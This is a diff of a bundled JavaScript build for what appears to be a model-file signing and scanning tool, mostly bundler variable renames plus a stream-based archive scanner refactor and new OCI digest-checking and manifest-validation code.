+    module.exports.rm.all = rm5.all;
     module.exports.rm.entry = module.exports.rm;
-    module.exports.rm.content = rm4.content;
+    module.exports.rm.content = rm5.content;
     module.exports.clearMemoized = clearMemoized;
     module.exports.tmp = {};
     module.exports.tmp.mkdir = tmp.mkdir;
@@ -42854,22 +42857,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
+      predicate: ({ path: path30 }) => path30.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path30 }) => path30.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
+      predicate: ({ path: path30 }) => path30.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".request"),
+      predicate: ({ path: path30 }) => path30.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42879,7 +42882,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".response"),
+      predicate: ({ path: path30 }) => path30.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42995,12 +42998,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path25 = rawPath.join(".").toLowerCase();
+        const path30 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path25 });
+        const shouldRun = predicate({ rawPath, path: path30 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path25 });
+          value = replace(value, { rawPath, path: path30 });
         }
         return value;
       }
@@ -43060,16 +43063,16 @@ var require_lib10 = __commonJS({
       }
       return redactUrlPassword(value, REPLACE).replace(matchers.NPM_SECRET.pattern, `npm_${REPLACE}`).replace(matchers.UUID.pattern, REPLACE);
     };
-    var splitAndRedact = (str3) => {
+    var splitAndRedact = (str4) => {
       const splitChars = /[\s=]/g;
       let match = null;
       let result = "";
       let index = 0;
-      while (match = splitChars.exec(str3)) {
-        result += redact(str3.slice(index, match.index)) + match[0];
+      while (match = splitChars.exec(str4)) {
+        result += redact(str4.slice(index, match.index)) + match[0];
         index = splitChars.lastIndex;
       }
-      return result + redact(str3.slice(index));
+      return result + redact(str4.slice(index));
     };
     var redactLog = (arg) => {
       if (typeof arg === "string") {
@@ -43265,12 +43268,12 @@ var require_helpers = __commonJS({
     exports.toBuffer = toBuffer;
     async function json(stream) {
       const buf = await toBuffer(stream);
-      const str3 = buf.toString("utf8");
+      const str4 = buf.toString("utf8");
       try {
-        return JSON.parse(str3);
+        return JSON.parse(str4);
       } catch (_err) {
         const err = _err;
-        err.message += ` (input: ${str3})`;
+        err.message += ` (input: ${str4})`;
         throw err;
       }
     }
@@ -45382,13 +45385,13 @@ var require_ipv4 = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Address4 = void 0;
     var common = __importStar(require_common2());
-    var constants8 = __importStar(require_constants4());
+    var constants10 = __importStar(require_constants4());
     var address_error_1 = require_address_error();
-    var isCorrect4 = common.isCorrect(constants8.BITS);
+    var isCorrect4 = common.isCorrect(constants10.BITS);
     var Address4 = class _Address4 {
       constructor(address) {
         this.addressMinusSuffix = "";
-        this.groups = constants8.GROUPS;
+        this.groups = constants10.GROUPS;
         this.parsedAddress = [];
         this.parsedSubnet = "";
         this.subnet = "/32";
@@ -45398,17 +45401,17 @@ var require_ipv4 = __commonJS({
         this.isInSubnet = common.isInSubnet;
         this.isHostInSubnet = common.isHostInSubnet;
         this.address = address;
-        const subnet = constants8.RE_SUBNET_STRING.exec(address);
+        const subnet = constants10.RE_SUBNET_STRING.exec(address);
         if (subnet) {
           this.parsedSubnet = subnet[0].replace("/", "");
           this.subnetMask = parseInt(this.parsedSubnet, 10);
           this.subnet = `/${this.subnetMask}`;
-          if (this.subnetMask < 0 || this.subnetMask > constants8.BITS) {
+          if (this.subnetMask < 0 || this.subnetMask > constants10.BITS) {
             throw new address_error_1.AddressError("Invalid subnet mask.");
           }
-          address = address.replace(constants8.RE_SUBNET_STRING, "");
+          address = address.replace(constants10.RE_SUBNET_STRING, "");
         }
-        const longest = constants8.GROUPS * 4 - 1;
+        const longest = constants10.GROUPS * 4 - 1;
         if (address.length > longest) {
           throw new address_error_1.AddressError(`IPv4 addresses are at most ${longest} characters.`);
         }
@@ -45441,7 +45444,7 @@ var require_ipv4 = __commonJS({
         if (groups.some((group) => /^0\d/.test(group))) {
           throw new address_error_1.AddressError("IPv4 addresses can't have leading zeroes.");
         }
-        if (!address.match(constants8.RE_ADDRESS)) {
+        if (!address.match(constants10.RE_ADDRESS)) {
           throw new address_error_1.AddressError("Invalid IPv4 address.");
         }
         return groups;
@@ -45464,7 +45467,7 @@ var require_ipv4 = __commonJS({
        * address.subnetMask; // 24
        */
       static fromAddressAndMask(address, mask) {
-        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants8.BITS);
+        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants10.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45478,9 +45481,9 @@ var require_ipv4 = __commonJS({
        */
       static fromAddressAndWildcardMask(address, wildcardMask) {
         const wildcard = new _Address4(wildcardMask).bigInt();
-        const allOnes = (BigInt(1) << BigInt(constants8.BITS)) - BigInt(1);
+        const allOnes = (BigInt(1) << BigInt(constants10.BITS)) - BigInt(1);
         const mask = wildcard ^ allOnes;
-        const bits = common.prefixLengthFromMask(mask, constants8.BITS);
+        const bits = common.prefixLengthFromMask(mask, constants10.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45498,7 +45501,7 @@ var require_ipv4 = __commonJS({
        */
       static fromWildcard(input) {
         const groups = input.split(".");
-        if (groups.length !== constants8.GROUPS) {
+        if (groups.length !== constants10.GROUPS) {
           throw new address_error_1.AddressError("Wildcard pattern must have 4 octets");
         }
         let firstWildcard = -1;
@@ -45513,7 +45516,7 @@ var require_ipv4 = __commonJS({
         }
         const trailing = firstWildcard === -1 ? 0 : groups.length - firstWildcard;
         const replaced = groups.map((g2) => g2 === "*" ? "0" : g2);
-        const subnetBits = constants8.BITS - trailing * 8;
+        const subnetBits = constants10.BITS - trailing * 8;
         return new _Address4(`${replaced.join(".")}/${subnetBits}`);
       }
       /**
@@ -45559,7 +45562,7 @@ var require_ipv4 = __commonJS({
        * address.correctForm(); // '192.0.2.42'
        */
       static fromArpa(arpaFormAddress) {
-        const longest = constants8.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
+        const longest = constants10.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
         if (arpaFormAddress.length > longest) {
           throw new address_error_1.AddressError(`in-addr.arpa names are at most ${longest} characters.`);
         }
@@ -45590,7 +45593,7 @@ var require_ipv4 = __commonJS({
       toGroup6() {
         const output2 = [];
         let i;
-        for (i = 0; i < constants8.GROUPS; i += 2) {
+        for (i = 0; i < constants10.GROUPS; i += 2) {
           output2.push(`${common.stringToPaddedHex(this.parsedAddress[i])}${common.stringToPaddedHex(this.parsedAddress[i + 1])}`);
         }
         return output2.join(":");
@@ -45607,7 +45610,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _startAddress() {
-        return BigInt(`0b${this.mask() + "0".repeat(constants8.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "0".repeat(constants10.BITS - this.subnetMask)}`);
       }
       /**
        * The first address in the range given by this address' subnet.
@@ -45637,7 +45640,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').offset(1).correctForm(); // '10.0.0.1'
        */
       offset(n) {
-        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants8.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants10.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       /**
        * Returns the network that follows this address's network: the address after
@@ -45648,7 +45651,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').nextNetwork().networkForm(); // '10.0.1.0/24'
        */
       nextNetwork() {
-        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants8.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants10.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       withSubnetMask(subnetMask) {
         return new _Address4(`${this.correctForm()}/${subnetMask}`);
@@ -45658,7 +45661,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _endAddress() {
-        return BigInt(`0b${this.mask() + "1".repeat(constants8.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "1".repeat(constants10.BITS - this.subnetMask)}`);
       }
       /**
        * The last address in the range given by this address' subnet
@@ -45683,7 +45686,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       subnetMaskAddress() {
-        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants8.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants10.BITS - this.subnetMask)}`));
       }
       /**
        * The Cisco-style wildcard mask, e.g. `0.0.0.255` for a `/24`. This is
@@ -45692,7 +45695,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       wildcardMask() {
-        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants8.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants10.BITS - this.subnetMask)}`));
       }
       /**
        * The network address in CIDR string form, e.g. `192.168.1.0/24` for
@@ -45873,7 +45876,7 @@ var require_ipv4 = __commonJS({
        */
       binaryZeroPad() {
         if (this._binaryZeroPad === void 0) {
-          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants8.BITS, "0");
+          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants10.BITS, "0");
         }
         return this._binaryZeroPad;
       }
@@ -45888,7 +45891,7 @@ var require_ipv4 = __commonJS({
        */
       groupForV6() {
         const segments = this.parsedAddress;
-        return this.correctForm().replace(constants8.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
+        return this.correctForm().replace(constants10.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
       }
     };
     exports.Address4 = Address4;
@@ -45910,7 +45913,7 @@ var require_ipv4 = __commonJS({
     ];
     var BENCHMARKING_V4 = new Address4("198.18.0.0/15");
     var RESERVED_V4 = new Address4("240.0.0.0/4");
-    var SPECIAL_PURPOSE_V4 = constants8.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
+    var SPECIAL_PURPOSE_V4 = constants10.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
       subnet: new Address4(cidr),
       reachable
     }));
@@ -49046,7 +49049,7 @@ var require_package3 = __commonJS({
 var require_remote = __commonJS({
   "node_modules/make-fetch-happen/lib/remote.js"(exports, module) {
     var { Minipass } = require_commonjs4();
-    var fetch = require_lib3();
+    var fetch2 = require_lib3();
     var { promiseRetry } = require_lib8();
     var ssri = require_lib4();
     var { log } = require_lib9();
@@ -49091,22 +49094,22 @@ var require_remote = __commonJS({
         redirect: "manual"
       };
       return promiseRetry(async (retryHandler, attemptNum) => {
-        const req = new fetch.Request(request, _opts);
+        const req = new fetch2.Request(request, _opts);
         const url = cleanUrl(req.url);
         try {
-          let res = await fetch(req, _opts);
+          let res = await fetch2(req, _opts);
           if (_opts.integrity && res.status === 200) {
             const integrityStream = ssri.integrityStream({
               algorithms: _opts.algorithms,
               integrity: _opts.integrity,
               size: _opts.size
             });
-            const pipeline = new CachingMinipassPipeline({
+            const pipeline2 = new CachingMinipassPipeline({
               events: ["integrity", "size"]
             }, res.body, integrityStream);
-            integrityStream.on("integrity", (i) => pipeline.emit("integrity", i));
-            integrityStream.on("size", (s3) => pipeline.emit("size", s3));
-            res = new fetch.Response(pipeline, res);
+            integrityStream.on("integrity", (i) => pipeline2.emit("integrity", i));
+            integrityStream.on("size", (s3) => pipeline2.emit("size", s3));
+            res = new fetch2.Response(pipeline2, res);
             res.body.hasIntegrityEmitter = true;
           }
           res.headers.set("x-fetch-attempts", attemptNum);
@@ -49122,7 +49125,7 @@ var require_remote = __commonJS({
           return res;
         } catch (err) {
           const code = err.code === "EPROMISERETRY" ? err.retried.code : err.code;
-          const isRetryError = err.retried instanceof fetch.Response || RETRY_ERRORS.includes(code) && RETRY_TYPES.includes(err.type);
+          const isRetryError = err.retried instanceof fetch2.Response || RETRY_ERRORS.includes(code) && RETRY_TYPES.includes(err.type);
           if (req.method === "POST" || isRetryError) {
             throw err;
           }
@@ -49586,7 +49589,7 @@ var require_fetch = __commonJS({
         options: _opts
       };
     };
-    var fetch = async (request, options) => {
+    var fetch2 = async (request, options) => {
       const response = CachePolicy.storable(request, options) ? await cache(request, options) : await remote(request, options);
       if (!["GET", "HEAD"].includes(request.method) && response.status >= 200 && response.status <= 399) {
         await cache.invalidate(request, options);
@@ -49595,9 +49598,9 @@ var require_fetch = __commonJS({
         return response;
       }
       const redirect = getRedirect(request, response, options);
-      return fetch(redirect.request, redirect.options);
+      return fetch2(redirect.request, redirect.options);
     };
-    module.exports = fetch;
+    module.exports = fetch2;
   }
 });
 
@@ -49606,11 +49609,11 @@ var require_lib12 = __commonJS({
   "node_modules/make-fetch-happen/lib/index.js"(exports, module) {
     var { FetchError, Headers, Request, Response } = require_lib3();
     var configureOptions = require_options();
-    var fetch = require_fetch();
+    var fetch2 = require_fetch();
     var makeFetchHappen = (url, opts) => {
       const options = configureOptions(opts);
       const request = new Request(url, options);
-      return fetch(request, options);
+      return fetch2(request, options);
     };
     makeFetchHappen.defaults = (defaultUrl, defaultOptions = {}, wrappedFetch = makeFetchHappen) => {
       if (typeof defaultUrl === "object") {
@@ -50064,14 +50067,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path25) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
+    function join2(base2, path30) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path30)).toString();
     }
-    function ensureTrailingSlash(path25) {
-      return path25.endsWith("/") ? path25 : path25 + "/";
+    function ensureTrailingSlash(path30) {
+      return path30.endsWith("/") ? path30 : path30 + "/";
     }
-    function removeLeadingSlash(path25) {
-      return path25.startsWith("/") ? path25.slice(1) : path25;
+    function removeLeadingSlash(path30) {
+      return path30.startsWith("/") ? path30.slice(1) : path30;
     }
   }
 });
@@ -50125,7 +50128,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path25 = __importStar(__require("path"));
+    var path30 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -50197,7 +50200,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path25.parse(targetFilePath);
+          const { dir, base: base2 } = path30.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50224,7 +50227,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path25.join(this.dir, `${fileName}.json`);
+        const filePath = path30.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50371,12 +50374,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path25.join(this.targetDir, filePath);
+        return path30.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path25.join(this.dir, `${encodedName}.json`);
+          const filePath = path30.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50488,13 +50491,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path25 = await getTargetPath(tuf, targetPath);
+      const path30 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path25, "utf-8", (err, data) => {
+        fs_1.default.readFile(path30, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path25}`,
+              message: `error reading target ${path30}`,
               cause: err
             }));
           } else {
@@ -50520,19 +50523,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path25 = await tuf.findCachedTarget(targetInfo);
-      if (!path25) {
+      let path30 = await tuf.findCachedTarget(targetInfo);
+      if (!path30) {
         try {
-          path25 = await tuf.downloadTarget(targetInfo);
+          path30 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path25}`,
+            message: `error downloading target ${path30}`,
             cause: err
           });
         }
       }
-      return path25;
+      return path30;
     }
   }
 });
@@ -52277,7 +52280,7 @@ ${name2}`;
   const used = (v2, use) => {
     if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
   };
-  const str3 = (b2, enc) => {
+  const str4 = (b2, enc) => {
     if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
     stringBytes += b2.length;
     if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
@@ -52319,7 +52322,7 @@ ${name2}`;
         return LONGSTR;
       }
       if (src.buffered < n) await src.ensure(n);
-      return str3(fixed(n), enc);
+      return str4(fixed(n), enc);
     };
     const skipBytes = async (n) => {
       if (src.buffered >= n) src.take(n);
@@ -52425,7 +52428,7 @@ ${name2}`;
           const l = await line("STRING");
           const s3 = decodeQuoted(l);
           if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
-          push(str3(Buffer.from(s3, "latin1"), "latin1"));
+          push(str4(Buffer.from(s3, "latin1"), "latin1"));
           break;
         }
         case 84: {
@@ -53059,17 +53062,17 @@ import { once } from "node:events";
 import os2 from "node:os";
 import path7 from "node:path";
 async function scanStream(src, kind, size, file, limits, member) {
-  const where = member !== void 0 ? { member } : {};
+  const where2 = member !== void 0 ? { member } : {};
   switch (kind) {
     case "pickle": {
-      const r = await walkPickles(src, { file, limits, ...where });
+      const r = await walkPickles(src, { file, limits, ...where2 });
       return { format: "pickle", pickle: true, imports: r.imports, findings: r.findings };
     }
     case "npy": {
       const h = await readNpyHeader(src);
-      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where, message: `not a valid .npy file: ${h.problem}` }] };
+      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where2, message: `not a valid .npy file: ${h.problem}` }] };
       if (!h.objectDtype) return { format: "npy", pickle: false, imports: [], findings: [] };
-      const r = await walkPickles(src, { file, limits, multiple: false, ...where });
+      const r = await walkPickles(src, { file, limits, multiple: false, ...where2 });
       return { format: "npy", pickle: true, imports: r.imports, findings: r.findings };
     }
     case "safetensors":
@@ -53873,12 +53876,12 @@ var init_blake2 = __esm({
         return res;
       }
       _cloneInto(to2) {
-        const { buffer, length, finished, destroyed, outputLen, pos } = this;
+        const { buffer, length, finished: finished2, destroyed, outputLen, pos } = this;
         to2 ||= new this.constructor({ dkLen: outputLen });
         to2.set(...this.get());
         to2.buffer.set(buffer);
         to2.destroyed = destroyed;
-        to2.finished = finished;
+        to2.finished = finished2;
         to2.length = length;
         to2.pos = pos;
         to2.outputLen = outputLen;
@@ -54315,8 +54318,8 @@ function outcome(status, errno, digest) {
   return { ok: false, code, message: typeof message === "function" ? message(errno) : message };
 }
 async function hashNative(nat, all, o) {
-  const bad5 = all.map(outOfRange);
-  const tasks = bad5.some(Boolean) ? all.filter((_2, i) => !bad5[i]) : all;
+  const bad7 = all.map(outOfRange);
+  const tasks = bad7.some(Boolean) ? all.filter((_2, i) => !bad7[i]) : all;
   const n = tasks.length;
   const start = new Float64Array(n);
   const end = new Float64Array(n);
@@ -54342,7 +54345,7 @@ async function hashNative(nat, all, o) {
   for (let i = 0; i < n; i++) out2[i] = outcome(r.status.readInt32LE(4 * i), r.errno.readInt32LE(4 * i), r.digests.subarray(32 * i, 32 * i + 32));
   if (tasks === all) return out2;
   let j2 = 0;
-  return all.map((_2, i) => bad5[i] ? { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank } : out2[j2++]);
+  return all.map((_2, i) => bad7[i] ? { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank } : out2[j2++]);
 }
 var ADDON_PATH, addon, why, ERRNO_NAMES, errName, FAILURES, MODE, outOfRange;
 var init_native = __esm({
@@ -57980,18 +57983,39 @@ function entryKind(type) {
       return "other";
   }
 }
+function fileInput(file) {
+  const root = path11.resolve(file);
+  return {
+    root,
+    size: 0,
+    embeddedSignature: true,
+    readError: (e) => modelPathError(file, e, "archive"),
+    async open() {
+      const { fh, size } = await openArchive(root);
+      this.size = size;
+      const magic = Buffer.alloc(2);
+      const { bytesRead: got } = await fh.read(magic, 0, 2, 0);
+      return { stream: fh.createReadStream({ highWaterMark: 1024 * 1024 }), gzipped: got === 2 && magic[0] === 31 && magic[1] === 139 };
+    }
+  };
+}
 async function scanArchive(file, req, opts = {}) {
   await prepareAlgorithm(req.alg);
   const maxEntries = opts.maxEntries ?? DEFAULT_MAX_ENTRIES;
   try {
-    return await scanPass(file, req, { mode: "auto" }, maxEntries);
+    return await scanPass(fileInput(file), req, { mode: "auto" }, maxEntries);
   } catch (e) {
     if (e instanceof RestartWithoutPrefix) {
       req.onRestart?.();
-      return scanPass(file, req, { mode: "none" }, maxEntries);
+      return scanPass(fileInput(file), req, { mode: "none" }, maxEntries);
     }
     throw e;
   }
+}
+async function scanArchiveStream(stream, opts, req) {
+  await prepareAlgorithm(req.alg);
+  const input = { root: opts.label, size: opts.size, embeddedSignature: false, readError: opts.readError, open: async () => ({ stream, gzipped: opts.gzipped }) };
+  return scanPass(input, req, { mode: "none" }, DEFAULT_MAX_ENTRIES);
 }
 async function openArchive(file) {
   let fh;
@@ -58007,10 +58031,11 @@ async function openArchive(file) {
   }
   return { fh, size: st2.size };
 }
-async function scanPass(file, req, initial, maxEntries) {
-  const root = path11.resolve(file);
-  const { fh, size: archiveSize } = await openArchive(root);
-  const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
+async function scanPass(input, req, initial, maxEntries) {
+  const root = input.root;
+  const { stream: rs2, gzipped } = await input.open();
+  const archiveSize = input.size;
+  const ignorePaths = input.embeddedSignature ? [...req.ignorePaths, EMBEDDED_SIGNATURE] : req.ignorePaths;
   const problems = [];
   const files = [];
   const hashed = /* @__PURE__ */ new Map();
@@ -58045,6 +58070,7 @@ async function scanPass(file, req, initial, maxEntries) {
   };
   const hashEntry = (entry, name2, size) => {
     const ranges = disjointRanges(req.ranges(name2, size), size);
+    const sink = req.sink?.open(name2, size);
     const digests = [];
     let hasher;
     let cur = 0;
@@ -58053,6 +58079,7 @@ async function scanPass(file, req, initial, maxEntries) {
       while (cur < ranges.length && ranges[cur][0] === ranges[cur][1] && ranges[cur][0] <= pos) digests[cur++] = createHasher2(req.alg).digestHex();
     };
     entry.on("data", (chunk) => {
+      sink?.write(chunk);
       const cEnd = pos + chunk.length;
       for (; ; ) {
         finishEmpty();
@@ -58070,6 +58097,7 @@ async function scanPass(file, req, initial, maxEntries) {
     });
     entry.on("end", () => {
       finishEmpty();
+      sink?.end(pos === size);
       if (pos !== size || cur !== ranges.length) {
         hostile("ARCHIVE_MALFORMED", entry.path, `entry holds ${pos} bytes but its header says ${size}`);
       } else {
@@ -58151,9 +58179,9 @@ async function scanPass(file, req, initial, maxEntries) {
       case "symlink": {
         entry.resume();
         const lp = entry.linkpath ?? "";
-        const bad5 = linkTargetProblem(lp);
-        if (bad5) {
-          hostile(bad5.code, raw, bad5.message);
+        const bad7 = linkTargetProblem(lp);
+        if (bad7) {
+          hostile(bad7.code, raw, bad7.message);
           return;
         }
         links.set(name2, { target: lp, ignored });
@@ -58310,23 +58338,21 @@ async function scanPass(file, req, initial, maxEntries) {
   };
   const { Header, Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
   notePrefixes(Header);
-  const magic = Buffer.alloc(2);
-  const { bytesRead: got } = await fh.read(magic, 0, 2, 0);
-  const gzipped = got === 2 && magic[0] === 31 && magic[1] === 139;
   return new Promise((resolve, rejectP) => {
-    let finished = false;
-    const rs2 = fh.createReadStream({ highWaterMark: 1024 * 1024 });
+    let finished2 = false;
     let lastProgress = 0;
-    rs2.on("data", () => {
+    let bytesIn = 0;
+    rs2.on("data", (chunk) => {
+      bytesIn += chunk.length;
       const now = Date.now();
       if (req.onProgress && now - lastProgress >= 200) {
         lastProgress = now;
-        req.onProgress(rs2.bytesRead, archiveSize);
+        req.onProgress(bytesIn, archiveSize);
       }
     });
     const finish2 = (err) => {
-      if (finished) return;
-      finished = true;
+      if (finished2) return;
+      finished2 = true;
       if (err !== void 0) {
         rs2.destroy();
         if (err instanceof RestartWithoutPrefix || err instanceof Error && err.name === "ModelsignError") {
@@ -58347,7 +58373,7 @@ async function scanPass(file, req, initial, maxEntries) {
       zstd: false,
       brotli: false,
       onReadEntry: (entry) => {
-        if (finished) {
+        if (finished2) {
           entry.resume();
           return;
         }
@@ -58386,11 +58412,14 @@ async function scanPass(file, req, initial, maxEntries) {
     });
     parser.on("error", (e) => finish2(e));
     parser.on("end", () => finish2());
-    rs2.on("error", (e) => {
-      if (finished) return;
-      finished = true;
-      rejectP(modelPathError(file, e, "archive"));
-    });
+    const onReadError = (e) => {
+      if (finished2) return;
+      finished2 = true;
+      rejectP(input.readError(e));
+    };
+    rs2.on("error", onReadError);
+    const early = rs2.errored;
+    if (early) onReadError(early);
     const gunzip = gzipped ? createGunzip() : void 0;
     const feed = new TarFeed(gunzip ? () => gunzip.bytesWritten : void 0);
     feed.on("error", (e) => finish2(e));
@@ -59026,7 +59055,1558 @@ var init_file = __esm({
   }
 });
 
+// src/oci/digest-check.ts
+import { createHash as createHash5 } from "node:crypto";
+import { Transform as Transform2, pipeline } from "node:stream";
+function checked(source, desc, from) {
+  const check = new DigestCheck(desc, from);
+  pipeline(source, check, () => void 0);
+  return check;
+}
+var DigestMismatch, DigestCheck;
+var init_digest_check = __esm({
+  "src/oci/digest-check.ts"() {
+    "use strict";
+    DigestMismatch = class extends Error {
+      code = "OCI_DIGEST_MISMATCH";
+    };
+    DigestCheck = class extends Transform2 {
+      constructor(desc, from) {
+        super({ highWaterMark: 1024 * 1024 });
+        this.desc = desc;
+        this.from = from;
+        this.hash = createHash5(desc.digest.startsWith("sha512:") ? "sha512" : "sha256");
+      }
+      hash;
+      n = 0;
+      _transform(chunk, _enc, cb) {
+        this.n += chunk.length;
+        if (this.n > this.desc.size) {
+          cb(new DigestMismatch(`blob ${this.desc.digest} from ${this.from} is longer than its ${this.desc.size} bytes`));
+          return;
+        }
+        this.hash.update(chunk);
+        cb(null, chunk);
+      }
+      _flush(cb) {
+        if (this.n !== this.desc.size) {
+          cb(new DigestMismatch(`blob ${this.desc.digest} from ${this.from} ended after ${this.n} of its ${this.desc.size} bytes`));
+          return;
+        }
+        const got = `${this.desc.digest.split(":")[0]}:${this.hash.digest("hex")}`;
+        if (got !== this.desc.digest) cb(new DigestMismatch(`blob ${this.desc.digest} from ${this.from} does not match its digest (its bytes hash to ${got})`));
+        else cb();
+      }
+    };
+  }
+});
+
+// src/oci/manifest.ts
+function isDigest(s3) {
+  return DIGEST.test(s3);
+}
+function bad4(what, msg) {
+  throw reject("OCI_MANIFEST_MALFORMED", `${what} is malformed: ${msg}`);
+}
+function str2(v2, what, field, max = 1024) {
+  if (typeof v2 !== "string" || v2.length === 0 || v2.length > max) bad4(what, `${field} must be a non-empty string of at most ${max} characters`);
+  return v2;
+}
+function annotations(v2, what) {
+  if (v2 === void 0) return void 0;
+  if (!isObject(v2)) bad4(what, "annotations must be an object");
+  const out2 = /* @__PURE__ */ Object.create(null);
+  const keys = Object.keys(v2);
